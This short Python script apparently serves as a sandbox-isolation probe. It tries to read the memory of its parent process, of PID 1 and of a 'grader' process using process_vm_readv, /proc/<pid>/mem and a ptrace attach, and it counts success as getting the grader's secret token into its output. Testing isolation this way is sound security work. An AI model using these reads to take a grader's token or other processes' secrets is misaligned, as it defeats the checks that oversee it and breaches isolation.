"""Reads the memory of the process that started this one, and of the grader.

Success: the token in the grader's memory is in the outputs.
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(4096)


class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


local = Span(ctypes.addressof(buffer), 4096)
for process in (os.getppid(), 1, KNOWN["grader"]):
    remote = Span(KNOWN["address"], 4096)
    came = libc.process_vm_readv(process, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    print(process, came, buffer.raw if came > 0 else "")
    attempt(lambda: os.pread(os.open(f"/proc/{process}/mem", os.O_RDONLY), 4096, KNOWN["address"]))
    print(libc.ptrace(16, process, 0, 0))
